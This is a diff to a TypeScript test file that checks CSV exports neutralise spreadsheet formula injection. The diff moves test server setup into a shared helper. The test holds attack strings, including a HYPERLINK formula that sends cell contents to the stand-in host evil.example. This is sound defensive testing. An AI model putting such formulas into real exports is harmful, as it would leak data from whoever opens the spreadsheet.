@@ -2,12 +2,11 @@
 // CSV formula injection (OWASP "CSV Injection"; issue #10 item 4): no cell of an export may begin
 // with a character a spreadsheet reads as the start of a formula.
 import assert from 'node:assert/strict';
-import { after, before, describe, it } from 'node:test';
-import { startServer, type RunningServer } from '../server.js';
+import { before, describe, it } from 'node:test';
 import { parseCsv } from '../services/orders/csv.js';
 import { sosa } from '../testing/run-sosa-cli.js';
-import { TEST_STORE, createTestDatabaseUrl } from '../testing/test-store.js';
 import { toCsv, type ExportRegister } from './export-command.js';
+import { useDemoServer } from '../testing/demo-server.js';
 
 const PASSWORD = 'csv-injection-password';
 const HYPERLINK = '-1+HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -57,26 +56,17 @@ describe('CSV export: the OWASP formula rule, without exceptions', () => {
 });
 
 describe('sosa export: attack strings written by an officer come out neutralised', () => {
-  let server: RunningServer;
+  const server = useDemoServer(PASSWORD);
   let env: Record<string, string>;
-  let drop: (() => Promise<void>) | null = null;
   const post = async (token: string, path: string, body: unknown) => {
     const res = await fetch(`${server.url}/api/v1${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
     assert.equal(res.status, 201, await res.text());
   };
   before(async () => {
-    const pg = TEST_STORE === 'postgres' ? await createTestDatabaseUrl() : null;
-    drop = pg?.drop ?? null;
-    server = await startServer({ port: 0, demo: true, demoPassword: PASSWORD, log: false, scheduler: false, ...(pg ? { databaseUrl: pg.url } : {}) });
-    const session = await fetch(`${server.url}/api/v1/session`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'in.sosa', password: PASSWORD }) });
-    const token = ((await session.json()) as { token: string }).token;
+    const token = await server.token('in.sosa');
     env = { SOSA_TOKEN: token, SOSA_URL: server.url };
     await post(token, '/points-of-contact', { function: 'other', name: HYPERLINK, title: CMD, organisation: '@SUM(1+1)', phone: '+91 11 2301 1234', notes: '=1+1' });
     await post(token, '/logistics/orders', { supplyingNation: 'IN', receivingNation: 'US', supportClass: 'services', description: HYPERLINK, occasion: CMD, deliveredOn: '2026-01-15', currency: 'USD', amount: '10.00', settlementMethod: 'cash' });
-  });
-  after(async () => {
-    await server.close();
-    await drop?.();
   });
 
   it('points of contact: the name, title, organisation and notes read back with an apostrophe; the phone stays readable', async () => {
